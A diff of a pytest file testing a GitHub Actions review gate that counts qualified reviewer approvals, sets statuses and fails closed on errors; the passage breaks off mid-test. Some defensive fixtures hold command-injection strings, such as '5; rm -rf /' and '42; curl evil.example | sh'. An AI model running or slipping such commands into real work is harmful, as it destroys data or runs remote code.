@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import re
+import subprocess
+import sys
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
@@ -19,6 +21,12 @@ ALL_MET = "- context: met\n- plan: met\n- impact: met\n"
 GOLDEN = FIXTURES / "golden" / "gate"
 WORKFLOWS = ROOT / ".github" / "workflows"
 DAN = "  - login: dan\n    name: Dan D\n    roles: [assessor]\n    district: south\n    stacks: [basics]\n"
+CORA = "  - login: cora\n    name: Cora C\n    roles: [curator]\n    district: south\n"
+PENDING = ("aaaaaaa", "pending", "counting the qualified reviews on aaaaaaa")
+FOOTER = (
+    "<sub>Counted by `microcred gate`: the latest approval or request for changes of each qualified reviewer on the head commit counts; "
+    "the roster comes from the default branch.</sub>"
+)
 
 Gate = Callable[..., Run]
 
@@ -60,39 +68,129 @@ def test_two_qualified_approvals_pass_with_the_rubric_results(fake: FakeGitHub, 
     fake.review(5, "ann", "APPROVED", body=f"Clear evidence.\n\n{ALL_MET}")
     fake.review(5, "bob", "APPROVED", body="* **Context**: Demonstrated\n* Plan is sound: met\n* impact = not yet")
     run = gate()
-    assert (run.code, run.out, run.err) == (0, "pull request #5: success: 2 of 2 qualified approvals on aaaaaaa\n", "")
-    assert statuses(fake) == [
-        ("aaaaaaa", "pending", "counting the qualified reviews on aaaaaaa"),
-        ("aaaaaaa", "success", "2 of 2 qualified approvals on aaaaaaa"),
+    assert (run.code, run.out, run.err) == (0, "pull request #5: success: 2/2 qualified approvals on aaaaaaa\n", "")
+    assert statuses(fake) == [PENDING, ("aaaaaaa", "success", "2/2 qualified approvals on aaaaaaa")]
+    assert writes(fake) == [
+        f"POST /statuses/{A}",  # pending before any other write
+        "POST /labels",
+        "POST /issues/5/labels",
+        "POST /issues/5/comments",
+        "POST /issues/5/comments",
+        f"POST /statuses/{A}",  # the decision last
     ]
     assert fake.pulls[5].labels == ["approved"]
     assert fake.labels["approved"] == {"color": "0e8a16", "description": "Two qualified reviewers approved: ready to merge"}
     template, summary = ours(fake)
-    assert template.startswith("<!-- microcred:scores -->\n") and template.endswith("- context:\n- plan:\n- impact:\n")
+    golden(GOLDEN / "template.md", template)
     golden(GOLDEN / "approved.md", summary)
 
 
-def test_running_again_changes_nothing_but_the_status(fake: FakeGitHub, gate: Gate) -> None:
+def test_running_again_writes_nothing(fake: FakeGitHub, gate: Gate) -> None:
     submission(fake)
     fake.review(5, "ann", "APPROVED", body=ALL_MET)
     fake.review(5, "bob", "APPROVED", body=ALL_MET)
     assert gate().code == 0
     first = len(fake.writes)
+    run = gate()
+    assert (run.code, run.out) == (0, "pull request #5: success: 2/2 qualified approvals on aaaaaaa (unchanged)\n")
+    assert writes(fake)[first:] == []
+    assert len(ours(fake)) == 2 and fake.pulls[5].labels == ["approved"]
+
+
+def test_a_status_set_by_hand_is_set_again_by_the_workflow(fake: FakeGitHub, gate: Gate) -> None:
+    submission(fake)
+    fake.review(5, "ann", "APPROVED", body=ALL_MET)
+    fake.review(5, "bob", "APPROVED", body=ALL_MET)
+    assert gate().code == 0
+    fake.status(A, "success", "2/2 qualified approvals on aaaaaaa", creator="maintainer")  # `microcred gate` run with a personal token
+    first = len(fake.writes)
+    assert gate().out == "pull request #5: success: 2/2 qualified approvals on aaaaaaa\n"
+    assert writes(fake)[first:] == [f"POST /statuses/{A}", f"POST /statuses/{A}"]  # a ruleset may require the status from Actions
+
+
+def test_a_stale_status_of_the_same_outcome_is_replaced(fake: FakeGitHub, gate: Gate) -> None:
+    submission(fake)
+    fake.review(5, "ann", "APPROVED", body=ALL_MET)
+    fake.review(5, "bob", "APPROVED", body=ALL_MET)
+    assert gate().code == 0
+    fake.status(A, "pending", "counting the qualified reviews on aaaaaaa")  # a run that stopped half-way
+    first = len(fake.writes)
     assert gate().code == 0
     assert writes(fake)[first:] == [f"POST /statuses/{A}", f"POST /statuses/{A}"]
-    assert len(ours(fake)) == 2
+    assert statuses(fake)[-1] == ("aaaaaaa", "success", "2/2 qualified approvals on aaaaaaa")
+
+
+def test_every_list_is_read_across_pages(fake: FakeGitHub, gate: Gate) -> None:
+    """With two items per page, the gate still sees every review, dismissal, label, comment, status and request."""
+    fake.max_per_page = 2
+    submission(fake)
+    fake.pulls[5].labels = ["evidence", "grade-7", "north", "round-2", "needs-tiebreak"]  # the stale label on page 3
+    for login in ("eve", "fay", "gus"):  # others' comments first: the gate's summary and template are on pages 2 and 3
+        fake.comments.append({"id": len(fake.comments) + 1, "number": 5, "login": login, "body": "+1", "created_at": "", "updated_at": ""})
+    fake.comments.append({"id": 99, "number": 5, "login": BOT, "body": "<!-- microcred:gate -->\nold", "created_at": "", "updated_at": ""})
+    fake.comments.append(
+        {"id": 98, "number": 5, "login": BOT, "body": "<!-- microcred:scores -->\nold", "created_at": "", "updated_at": ""}
+    )
+    fake.status(A, "failure", "the gate could not finish: GET /repos/consortium/catalog/pulls/5/reviews")
+    for context in ("ci/a", "ci/b", "ci/c"):  # newer statuses of other checks: the gate's own is on page 2
+        fake.status(A, "success", "fine", context=context)
+    for n in range(6):
+        fake.review(5, "ann", "COMMENTED", body=f"note {n}")
+    fake.review(5, "ann", "APPROVED", body=ALL_MET)  # review 7 of 9: page 4
+    bob = fake.review(5, "bob", "CHANGES_REQUESTED", body="- plan: not yet")
+    fake.review(5, "cy", "APPROVED", body=ALL_MET)
+    for n, event in enumerate(("labeled", "review_requested", "labeled")):  # other events before the dismissal
+        fake.events.setdefault(5, []).append({"id": n + 1, "event": event, "actor": None, "created_at": "2026-10-19T12:00:00Z"})
+    fake.reviews[5][7]["state"] = "DISMISSED"  # dismissed earlier with the gate's message
+    fake.events[5].append(
+        {
+            "id": 4,
+            "event": "review_dismissed",
+            "actor": None,
+            "created_at": "2026-10-20T12:00:00Z",
+            "dismissed_review": {
+                "state": "changes_requested",
+                "review_id": bob,
+                "dismissal_message": "microcred-gate: outvoted 2:1 after a tie-break; this review by @bob requested changes on aaaaaaa.",
+            },
+        }
+    )
+    run = gate()
+    assert run.out == "pull request #5: success: 2 qualified approvals to 1 request for changes on aaaaaaa\n"
+    assert writes(fake) == [
+        f"POST /statuses/{A}",
+        "POST /labels",
+        "POST /issues/5/labels",
+        "DELETE /issues/5/labels/needs-tiebreak",
+        "PATCH /issues/comments/99",
+        f"POST /statuses/{A}",
+    ]
+    assert fake.pulls[5].labels == ["evidence", "grade-7", "north", "round-2", "approved"]
+    pages = [(r.path.removeprefix(f"/repos/{REPOSITORY}"), r.query.get("page", "1")) for r in fake.requests if r.method == "GET"]
+    for path, last in [
+        (f"/statuses/{A}", "2"),  # stops at the gate's own, the newest of its context
+        ("/pulls/5/reviews", "5"),
+        ("/issues/5/events", "2"),
+        ("/issues/5/labels", "3"),
+        ("/issues/5/comments", "3"),
+    ]:
+        assert [page for p, page in pages if p == path] == [str(n) for n in range(1, int(last) + 1)], path
+    first = len(fake.writes)
+    assert gate().out.endswith(" (unchanged)\n")
+    assert writes(fake)[first:] == []
 
 
 def test_the_summary_is_edited_in_place_as_reviews_arrive(fake: FakeGitHub, gate: Gate) -> None:
     submission(fake)
     fake.review(5, "ann", "APPROVED", body=ALL_MET)
-    assert gate().out == "pull request #5: pending: 1 of 2 qualified approvals, waiting for a second reviewer on aaaaaaa\n"
+    assert gate().out == "pull request #5: pending: 1/2 qualified approvals, waiting for a second reviewer on aaaaaaa\n"
     assert fake.pulls[5].labels == []
     fake.review(5, "bob", "CHANGES_REQUESTED", body=ALL_MET)
     fake.review(5, "cy", "CHANGES_REQUESTED", body="- context: not yet\n- plan: not yet\n- impact: not yet")
     assert gate().out == "pull request #5: failure: not yet: 2 qualified reviewers requested changes, 1 approved on aaaaaaa\n"
     [_, summary_id] = [c["id"] for c in fake.comments]
-    assert writes(fake)[-4:] == [
+    assert writes(fake)[-5:] == [
+        f"POST /statuses/{A}",
         "POST /labels",
         "POST /issues/5/labels",
         f"PATCH /issues/comments/{summary_id}",
@@ -111,10 +209,10 @@ def test_an_approval_before_a_push_is_stale(fake: FakeGitHub, gate: Gate) -> Non
     fake.file(B, SUBMISSION, (FIXTURES / "base" / SUBMISSION).read_text(encoding="utf-8"))
     fake.review(5, "ann", "APPROVED", body=ALL_MET)
     run = gate()
-    assert run.out == "pull request #5: pending: 1 of 2 qualified approvals, waiting for a second reviewer on bbbbbbb\n"
-    assert statuses(fake)[-1] == ("bbbbbbb", "pending", "1 of 2 qualified approvals, waiting for a second reviewer on bbbbbbb")
+    assert run.out == "pull request #5: pending: 1/2 qualified approvals, waiting for a second reviewer on bbbbbbb\n"
+    assert statuses(fake)[-1] == ("bbbbbbb", "pending", "1/2 qualified approvals, waiting for a second reviewer on bbbbbbb")
     assert fake.pulls[5].labels == []  # the approval of the older commit no longer stands
-    assert "- `bob`: review on an older commit aaaaaaa\n" in ours(fake)[1]
+    assert "\n\nNot counted:\n- `bob`: review on an older commit aaaaaaa\n\nRubric results:\n" in ours(fake)[1]
 
 
 def test_who_is_not_counted_and_why(fake: FakeGitHub, gate: Gate) -> None:
@@ -128,19 +226,45 @@ def test_who_is_not_counted_and_why(fake: FakeGitHub, gate: Gate) -> None:
     fake.review(5, "stranger", "APPROVED")
     fake.review(5, "ann", "APPROVED", body="context: met")
     fake.review(5, "ann", "COMMENTED", body="One more thought.")
-    assert gate().out == "pull request #5: pending: 1 of 2 qualified approvals, waiting for a second reviewer on aaaaaaa\n"
+    assert gate().out == "pull request #5: pending: 1/2 qualified approvals, waiting for a second reviewer on aaaaaaa\n"
     golden(GOLDEN / "not-counted.md", ours(fake)[1])
 
 
-def test_a_proposal_is_reviewed_by_curators_without_a_scoring_template(fake: FakeGitHub, gate: Gate) -> None:
+def test_a_proposal_is_reviewed_by_curators_without_a_scoring_template(fake: FakeGitHub, gate: Gate, repo: Path) -> None:
+    with (repo / "catalog/reviewers.yml").open("a", encoding="utf-8") as roster:
+        roster.write(CORA)
     fake.pull(9, "eve", [A], {"catalog/credentials/delta.yml": "added", "rubrics/delta.yml": "added"})
     fake.review(9, "ann", "APPROVED")
-    fake.review(9, "bob", "APPROVED")
-    assert gate(9).out == "pull request #9: pending: 1 of 2 qualified approvals, waiting for a second reviewer on aaaaaaa\n"
-    [summary] = ours(fake)
-    assert "- `bob`: not a curator\n" in summary
-    assert "Commit aaaaaaa, a proposal, reviewed by curators: 1 of 2 qualified approvals, waiting for a second reviewer.\n" in summary
+    fake.review(9, "bob", "APPROVED")  # an assessor, not a curator
+    assert gate(9).out == "pull request #9: pending: 1/2 qualified approvals, waiting for a second reviewer on aaaaaaa\n"
+    fake.review(9, "cora", "APPROVED")
+    assert gate(9).out == "pull request #9: success: 2/2 qualified approvals on aaaaaaa\n"
+    assert fake.pulls[9].labels == ["approved"]
+    [summary] = ours(fake)  # no scoring template: a proposal has no rubric to score
+    golden(GOLDEN / "proposal.md", summary)
     assert not [r for r in fake.requests if "/contents/" in r.path]
+
+
+def test_the_roster_comes_from_the_default_branch_never_the_pull_request(fake: FakeGitHub, gate: Gate) -> None:
+    # mal opens a proposal that makes mal and pal curators, and assessors of alpha; the pull request's copy is never read.
+    roster = (FIXTURES / "base/catalog/reviewers.yml").read_text(encoding="utf-8")
+    for login in ("mal", "pal"):
+        roster += f"  - login: {login}\n    name: {login}\n    roles: [assessor, curator]\n    district: south\n    credentials: [alpha]\n"
+    fake.pull(9, "mal", [A], {"catalog/reviewers.yml": "modified"})
+    fake.file(A, "catalog/reviewers.yml", roster)
+    fake.review(9, "mal", "APPROVED")
+    fake.review(9, "pal", "APPROVED")
+    fake.review(9, "ann", "APPROVED")
+    assert gate(9).out == "pull request #9: pending: 1/2 qualified approvals, waiting for a second reviewer on aaaaaaa\n"
+    assert "Not counted:\n- `mal`: the author of the pull request\n- `pal`: not a curator\n" in ours(fake)[0]
+    # The same change beside a submission: pal is still no assessor of alpha.
+    fake.pull(5, "dee", [A], {SUBMISSION: "added", "catalog/reviewers.yml": "modified"})
+    fake.file(A, SUBMISSION, (FIXTURES / "base" / SUBMISSION).read_text(encoding="utf-8"))
+    fake.review(5, "pal", "APPROVED", body=ALL_MET)
+    fake.review(5, "ann", "APPROVED", body=ALL_MET)
+    assert gate(5).out == "pull request #5: pending: 1/2 qualified approvals, waiting for a second reviewer on aaaaaaa\n"
+    assert "Not counted:\n- `pal`: not on the roster for this credential\n" in ours(fake)[-1]
+    assert [r.path for r in fake.requests if "/contents/" in r.path] == [f"/repos/{REPOSITORY}/contents/{SUBMISSION}"]
 
 
 def test_a_tie_asks_the_eligible_reviewer_with_the_fewest_open_requests(fake: FakeGitHub, gate: Gate, repo: Path) -> None:
@@ -157,8 +281,9 @@ def test_a_tie_asks_the_eligible_reviewer_with_the_fewest_open_requests(fake: Fa
     golden(GOLDEN / "tie.md", ours(fake)[1])
     fake.pulls[7].requested = fake.pulls[8].requested = ["dan"]  # now dan is busier, but already asked here: nobody else is
     first = len(fake.writes)
-    assert gate().out == "pull request #5: pending: tie 1:1 on aaaaaaa: dan is asked to decide\n"
-    assert writes(fake)[first:] == [f"POST /statuses/{A}", f"POST /statuses/{A}"]
+    assert gate().out == "pull request #5: pending: tie 1:1 on aaaaaaa: dan is asked to decide (unchanged)\n"
+    assert writes(fake)[first:] == []
+    assert fake.pulls[5].requested == ["dan"]
 
 
 def test_at_two_to_one_the_outvoted_review_is_dismissed_with_the_vote(fake: FakeGitHub, gate: Gate) -> None:
@@ -177,8 +302,9 @@ def test_at_two_to_one_the_outvoted_review_is_dismissed_with_the_vote(fake: Fake
     assert fake.pulls[5].labels == ["approved"]
     golden(GOLDEN / "outvoted.md", ours(fake)[1])
     first = len(fake.writes)
-    assert gate().out == run.out  # the dismissed review still counts as outvoted, and is not dismissed again
-    assert writes(fake)[first:] == [f"POST /statuses/{A}", f"POST /statuses/{A}"]
+    # The dismissed review still counts as outvoted, and is not dismissed again.
+    assert gate().out == "pull request #5: success: 2 qualified approvals to 1 request for changes on aaaaaaa (unchanged)\n"
+    assert writes(fake)[first:] == []
 
 
 def test_a_refused_dismissal_fails_the_gate_after_the_summary_shows_the_message(fake: FakeGitHub, gate: Gate) -> None:
@@ -209,9 +335,11 @@ def test_nobody_left_to_break_a_tie_asks_the_admin(fake: FakeGitHub, gate: Gate,
     assert gate().out == "pull request #5: pending: tie 1:1 on aaaaaaa: nobody qualifies to break it; an admin decides\n"
     assert fake.pulls[5].requested == []
     assert fake.pulls[5].labels == ["needs-admin"]
-    summary = ours(fake)[1]
-    assert "- `ann`: from the earner's district (north)\n" in summary
-    assert "Nobody qualifies to break the tie: every other qualified reviewer voted" in summary
+    assert fake.labels["needs-admin"] == {
+        "color": "b60205",
+        "description": "Nobody qualifies to break the tie: an admin must find a reviewer",
+    }
+    golden(GOLDEN / "needs-admin.md", ours(fake)[1])
 
 
 @pytest.mark.parametrize(
@@ -234,9 +362,38 @@ def test_a_malformed_submission_fails_with_the_reason(fake: FakeGitHub, gate: Ga
     fake.pulls[5].labels = ["approved"]
     run = gate()
     assert (run.code, run.err) == (1, f"microcred: gate: #5: {problem}\n")
-    assert statuses(fake)[-1] == ("aaaaaaa", "failure", problem)
+    assert statuses(fake) == [PENDING, ("aaaaaaa", "failure", problem)]
     assert fake.pulls[5].labels == []
-    assert ours(fake)[0].startswith(f"<!-- microcred:gate -->\n### Review gate: cannot judge this pull request\n\n{problem}.\n")
+    assert ours(fake) == [f"<!-- microcred:gate -->\n### Review gate: cannot judge this pull request\n\n{problem}.\n\n{FOOTER}\n"]
+
+
+@pytest.mark.parametrize(
+    ("files", "problem"),
+    [
+        (
+            {SUBMISSION: "added", "submissions/alpha/dee-alpha-2.yml": "added"},
+            "the pull request changes 2 submission files; a submission comes alone in its pull request",
+        ),
+        (
+            {"submissions/alpha/notes.txt": "added"},
+            "submissions/alpha/notes.txt is not a submission file (submissions/<credential>/<id>.yml)",
+        ),
+        (
+            {"submissions/delta/dee-delta-1.yml": "added"},
+            "submissions/delta/dee-delta-1.yml at aaaaaaa: no credential 'delta' in the catalog on the default branch",
+        ),
+    ],
+)
+def test_a_pull_request_that_is_no_single_submission_of_a_known_credential_fails(
+    fake: FakeGitHub, gate: Gate, files: dict[str, str], problem: str
+) -> None:
+    fake.pull(5, "dee", [A], files)
+    fake.file(A, "submissions/delta/dee-delta-1.yml", "credential: delta\nearner: {login: dee, district: north}\n")
+    fake.review(5, "ann", "APPROVED")
+    fake.review(5, "bob", "APPROVED")
+    run = gate()
+    assert (run.code, run.out, run.err) == (1, f"pull request #5: failure: {problem}\n", f"microcred: gate: #5: {problem}\n")
+    assert statuses(fake)[-1] == ("aaaaaaa", "failure", problem)
 
 
 def test_an_invalid_catalog_on_the_default_branch_fails_closed(fake: FakeGitHub, gate: Gate, repo: Path) -> None:
@@ -245,52 +402,117 @@ def test_an_invalid_catalog_on_the_default_branch_fails_closed(fake: FakeGitHub,
     fake.review(5, "ann", "APPROVED")
     fake.review(5, "bob", "APPROVED")
     run = gate()
-    assert run.code == 1
-    assert run.err.endswith(
-        "microcred: gate: #5: the catalog on the default branch is invalid, so the roster cannot be read; fix the default branch\n"
-    )
-    assert statuses(fake)[-1][1] == "failure"
+    problem = "the catalog on the default branch is invalid, so the roster cannot be read; fix the default branch"
+    assert (run.code, run.out) == (1, f"pull request #5: failure: {problem}\n")
+    summary, refusal = run.err.splitlines()
+    assert summary.startswith(f"microcred: gate: {repo}: ") and summary.endswith(" checked: invalid, 1 error(s), 3 warning(s)")
+    assert refusal == f"microcred: gate: #5: {problem}"
+    assert statuses(fake) == [PENDING, ("aaaaaaa", "failure", problem)]
+    assert [r.path for r in fake.requests if "/contents/" in r.path or "/reviews" in r.path] == []  # nothing judged
 
 
 def test_a_read_only_token_fails_closed_before_anything_is_written(fake: FakeGitHub, gate: Gate) -> None:
     fake.read_only = True
     submission(fake)
+    fake.status(A, "success", "2/2 qualified approvals on aaaaaaa")  # from an earlier run
     fake.review(5, "ann", "APPROVED")
-    fake.review(5, "bob", "APPROVED")
+    fake.review(5, "bob", "CHANGES_REQUESTED")
     run = gate()
     assert (run.code, run.out) == (1, "")
     assert run.err == (
         f"microcred: gate: POST /repos/consortium/catalog/statuses/{A} answered HTTP 403: Resource not accessible by integration; "
         "the token is read-only here: the gate's job needs statuses: write, pull-requests: write and issues: write\n"
     )
-    assert writes(fake) == [f"POST /statuses/{A}"]
-    assert fake.statuses == []
+    assert writes(fake) == [f"POST /statuses/{A}"]  # the first write is pending, and nothing follows its refusal
+    assert statuses(fake) == [("aaaaaaa", "success", "2/2 qualified approvals on aaaaaaa")]
 
 
-def test_a_server_error_leaves_no_success(fake: FakeGitHub, gate: Gate) -> None:
+def _scenario(fake: FakeGitHub, kind: str) -> None:
+    """A pull request whose run writes a lot: "approved" 2:1 (labels, both comments, a dismissal), its "rerun" over an old
+    summary and label, or a "tie" (the open pull requests read, a review requested)."""
     submission(fake)
-    fake.review(5, "ann", "APPROVED")
-    fake.review(5, "bob", "APPROVED")
-    fake.fail = ("GET", r"/pulls/5/reviews$", 502)
+    fake.pull(7, "eve", ["c" * 40], {}, requested=["bob"])
+    fake.review(5, "ann", "APPROVED", body=ALL_MET)
+    fake.review(5, "bob", "CHANGES_REQUESTED", body="- plan: not yet")
+    if kind == "tie":
+        return
+    fake.review(5, "cy", "APPROVED", body=ALL_MET)
+    if kind == "rerun":
+        fake.pulls[5].labels = ["needs-tiebreak"]
+        fake.comments.append(
+            {"id": 1, "number": 5, "login": BOT, "body": "<!-- microcred:scores -->\n", "created_at": "", "updated_at": ""}
+        )
+        fake.comments.append(
+            {"id": 2, "number": 5, "login": BOT, "body": "<!-- microcred:gate -->\nold", "created_at": "", "updated_at": ""}
+        )
+
+
+REPO = f"/repos/{REPOSITORY}"
+REFUSED = "; GitHub refused the write (a rule of the repository may reserve it, e.g. who may dismiss reviews)"
+
+
+FAILURES = [
+    # Reads, before anything is written: the status goes straight to failure.
+    ("approved", "GET", r"/statuses/", 502, 0, f"GET {REPO}/statuses/{A}", "Server Error", []),
+    ("approved", "GET", r"/pulls/5/files$", 500, 0, f"GET {REPO}/pulls/5/files", "Server Error", []),
+    ("approved", "GET", r"/pulls/5/commits$", 403, 0, f"GET {REPO}/pulls/5/commits", "Forbidden", []),
+    ("approved", "GET", r"/contents/", 503, 0, f"GET {REPO}/contents/{SUBMISSION}?ref={A}", "Server Error", []),
+    ("approved", "GET", r"/pulls/5/reviews$", 502, 0, f"GET {REPO}/pulls/5/reviews", "Server Error", []),
+    ("approved", "GET", r"/issues/5/events$", 403, 0, f"GET {REPO}/issues/5/events", "Forbidden", []),
+    ("approved", "GET", r"/issues/5/labels$", 500, 0, f"GET {REPO}/issues/5/labels", "Server Error", []),
+    ("approved", "GET", r"/issues/5/comments$", 502, 0, f"GET {REPO}/issues/5/comments", "Server Error", []),
+    ("tie", "GET", r"/pulls$", 502, 0, f"GET {REPO}/pulls?state=open", "Server Error", []),
+    # Writes after pending: a success decision is never published.
+    ("approved", "GET", r"/labels/approved$", 502, 0, f"GET {REPO}/labels/approved", "Server Error", [PENDING]),
+    ("approved", "POST", r"/labels$", 403, 0, f"POST {REPO}/labels", "Forbidden" + REFUSED, [PENDING]),
+    ("approved", "POST", r"/issues/5/labels$", 500, 0, f"POST {REPO}/issues/5/labels", "Server Error", [PENDING]),
+    ("approved", "POST", r"/issues/5/comments$", 503, 0, f"POST {REPO}/issues/5/comments", "Server Error", [PENDING]),
+    # The scoring template posted, then the summary of the success decision refused.
+    ("approved", "POST", r"/issues/5/comments$", 403, 1, f"POST {REPO}/issues/5/comments", "Forbidden" + REFUSED, [PENDING]),
+    ("approved", "PUT", r"/dismissals$", 502, 0, f"PUT {REPO}/pulls/5/reviews/1002/dismissals", "Server Error", [PENDING]),
+    ("rerun", "DELETE", r"/labels/needs-tiebreak$", 500, 0, f"DELETE {REPO}/issues/5/labels/needs-tiebreak", "Server Error", [PENDING]),
+    ("rerun", "PATCH", r"/issues/comments/2$", 403, 0, f"PATCH {REPO}/issues/comments/2", "Forbidden" + REFUSED, [PENDING]),
+    ("tie", "POST", r"/requested_reviewers$", 403, 0, f"POST {REPO}/pulls/5/requested_reviewers", "Forbidden" + REFUSED, [PENDING]),
+]
+
+
+@pytest.mark.parametrize(
+    ("kind", "method", "path", "status", "after", "call", "said", "before"),
+    FAILURES,
+    ids=[f"{c[0]} {c[5].replace(REPO, '').replace(A, 'sha').split('?')[0]} {c[3]}" + (" later" if c[4] else "") for c in FAILURES],
+)
+def test_an_api_error_anywhere_fails_closed(
+    fake: FakeGitHub, gate: Gate, kind: str, method: str, path: str, status: int, after: int, call: str, said: str, before: list[Any]
+) -> None:
+    _scenario(fake, kind)
+    fake.fail, fake.fail_after = (method, path, status), after
     run = gate()
+    assert (run.code, run.out, run.err) == (1, "", f"microcred: gate: {call} answered HTTP {status}: {said}\n")
+    failure = f"the gate could not finish: {call}"
+    assert statuses(fake) == [*before, ("aaaaaaa", "failure", failure if len(failure) <= 140 else failure[:139] + "…")]
+    assert fake.reviews[5][1]["state"] == "CHANGES_REQUESTED"  # nothing dismissed after a failure
+
+
+def test_when_the_decision_cannot_be_published_the_status_stays_pending(fake: FakeGitHub, gate: Gate) -> None:
+    _scenario(fake, "approved")
+    fake.fail, fake.fail_after = ("POST", r"/statuses/", 502), 1  # pending is set, then every status is refused
+    run = gate()
+    call = f"POST {REPO}/statuses/{A}"
     assert (run.code, run.out) == (1, "")
-    assert run.err == "microcred: gate: GET /repos/consortium/catalog/pulls/5/reviews answered HTTP 502: Server Error\n"
-    assert statuses(fake) == [
-        ("aaaaaaa", "pending", "counting the qualified reviews on aaaaaaa"),
-        ("aaaaaaa", "failure", "the gate could not finish: GET /repos/consortium/catalog/pulls/5/reviews"),
-    ]
-    assert fake.pulls[5].labels == [] and fake.comments == []
+    assert run.err == (
+        f"microcred: gate: {call} answered HTTP 502: Server Error\n"
+        f"microcred: gate: the status could not be set to failure either: {call} answered HTTP 502: Server Error\n"
+    )
+    assert statuses(fake) == [PENDING]
 
 
-def test_a_failed_write_half_way_never_reaches_success(fake: FakeGitHub, gate: Gate) -> None:
-    submission(fake)
-    fake.review(5, "ann", "APPROVED")
-    fake.review(5, "bob", "APPROVED")
-    fake.fail = ("POST", r"/issues/5/comments$", 500)
+def test_when_not_even_pending_can_be_set_nothing_else_is_written(fake: FakeGitHub, gate: Gate) -> None:
+    _scenario(fake, "approved")
+    fake.fail = ("POST", r"/statuses/", 500)
     run = gate()
-    assert run.code == 1
-    assert run.err == "microcred: gate: POST /repos/consortium/catalog/issues/5/comments answered HTTP 500: Server Error\n"
-    assert [s[1] for s in statuses(fake)] == ["pending", "failure"]
+    assert (run.code, run.err) == (1, f"microcred: gate: POST {REPO}/statuses/{A} answered HTTP 500: Server Error\n")
+    assert writes(fake) == [f"POST /statuses/{A}"]  # not retried, and no failure status over the same refused call
+    assert fake.statuses == [] and fake.comments == [] and fake.pulls[5].labels == []
 
 
 def test_a_closed_pull_request_is_left_alone(fake: FakeGitHub, gate: Gate) -> None:
@@ -300,19 +522,39 @@ def test_a_closed_pull_request_is_left_alone(fake: FakeGitHub, gate: Gate) -> No
     assert fake.writes == []
 
 
-def test_the_environment_and_the_number_are_checked(
-    fake: FakeGitHub, cli: Callable[..., Run], repo: Path, monkeypatch: pytest.MonkeyPatch
+@pytest.mark.parametrize(
+    ("name", "value", "message"),
+    [
+        ("GITHUB_TOKEN", None, "set GITHUB_TOKEN to a token that may write statuses, pull requests and issues"),
+        ("GITHUB_TOKEN", "  ", "set GITHUB_TOKEN to a token that may write statuses, pull requests and issues"),
+        ("GITHUB_REPOSITORY", None, "set GITHUB_REPOSITORY to the repository as OWNER/NAME"),
+        ("GITHUB_REPOSITORY", "just-a-name", "set GITHUB_REPOSITORY to OWNER/NAME (it is 'just-a-name')"),
+        ("GITHUB_REPOSITORY", "a/b/c", "set GITHUB_REPOSITORY to OWNER/NAME (it is 'a/b/c')"),
+        (
+            "GITHUB_API_URL",
+            None,
+            "set GITHUB_API_URL to the API's address: https://api.github.com, or https://HOST/api/v3 for GitHub Enterprise Server",
+        ),
+        ("GITHUB_API_URL", "api.github.com", "set GITHUB_API_URL to an http(s) address (it is 'api.github.com')"),
+    ],
+)
+def test_the_environment_is_checked_before_anything_is_asked(
+    fake: FakeGitHub, gate: Gate, monkeypatch: pytest.MonkeyPatch, name: str, value: str | None, message: str
 ) -> None:
-    monkeypatch.delenv("GITHUB_TOKEN")
-    run = cli("gate", "--pr", "5", "--root", str(repo), cwd=repo)
-    assert (run.code, run.err) == (2, "microcred: error: set GITHUB_TOKEN to a token that may write statuses, pull requests and issues\n")
-    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
-    monkeypatch.setenv("GITHUB_REPOSITORY", "just-a-name")
-    run = cli("gate", "--pr", "5", "--root", str(repo), cwd=repo)
-    assert (run.code, run.err) == (2, "microcred: error: set GITHUB_REPOSITORY to OWNER/NAME (it is 'just-a-name')\n")
-    with pytest.raises(SystemExit) as usage:
-        cli("gate", "--pr", "5; rm -rf /", cwd=repo)
-    assert usage.value.code == 2
+    if value is None:
+        monkeypatch.delenv(name)
+    else:
+        monkeypatch.setenv(name, value)
+    run = gate()
+    assert (run.code, run.out, run.err) == (2, "", f"microcred: error: {message}\n")
+    assert fake.requests == []
+
+
+def test_the_number_must_be_a_pull_request_number(fake: FakeGitHub, cli: Callable[..., Run], repo: Path) -> None:
+    for bad in ("5; rm -rf /", "0", "-3", "five"):
+        with pytest.raises(SystemExit) as usage:
+            cli("gate", "--pr", bad, "--root", str(repo), cwd=repo)
+        assert usage.value.code == 2
     assert fake.requests == []
 
 
@@ -361,6 +603,65 @@ def test_the_gate_workflow_runs_default_branch_code_with_least_privilege() -> No
     gate = next(s for s in jobs["gate"]["steps"] if "microcred gate" in s.get("run", ""))
     assert gate["run"] == 'microcred gate --pr "$PR_NUMBER"'
     assert gate["env"] == {"GITHUB_TOKEN": "${{ github.token }}", "PR_NUMBER": "${{ needs.number.outputs.pr }}"}
+
+
+@pytest.mark.parametrize(
+    ("event", "relay", "number"),
+    [
+        ("workflow_run", b"42\n", "42"),
+        ("workflow_run", b"42", "42"),
+        ("workflow_run", b"42\n7\n", "42"),  # the first line only
+        ("workflow_run", b"42\r\n", None),
+        ("workflow_run", b"42; curl evil.example | sh\n", None),
+        ("workflow_run", b"$(id)\n", None),
+        ("workflow_run", b"42\npr=1\n", "42"),
+        ("workflow_run", b"4" * 11 + b"\n", None),  # more than ten digits
+        ("workflow_run", b"7" * 100_000, None),  # read stops after 32 characters
+        ("workflow_run", b"", None),
+        ("workflow_run", None, None),  # no artifact
+        ("pull_request_target", None, "5"),
+        ("workflow_dispatch", None, "9"),
+    ],
+)
+def test_the_number_from_the_relay_is_digits_or_nothing(tmp_path: Path, event: str, relay: bytes | None, number: str | None) -> None:
+    """The resolve step, run as Actions runs it, on what a fork's relay could upload."""
+    step = next(s for s in _steps(_workflow("review-gate.yml")) if s.get("id") == "resolve")
+    script, output, path = tmp_path / "resolve.sh", tmp_path / "output", tmp_path / "relay" / "pr-number.txt"
+    script.write_text(step["run"], encoding="utf-8")
+    output.write_text("", encoding="utf-8")
+    if relay is not None:
+        path.parent.mkdir()
+        path.write_bytes(relay)
+    env = {"PATH": "/usr/bin:/bin", "GITHUB_OUTPUT": str(output), "EVENT": event, "FROM_EVENT": "5", "FROM_INPUT": "9", "RELAY": str(path)}
+    done = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)], env=env, capture_output=True, text=True)
+    if number is None:
+        assert (done.returncode, done.stdout, output.read_text(encoding="utf-8")) == (
+            1,
+            "::error::the pull request number is missing or not digits\n",
+            "",
+        )
+    else:
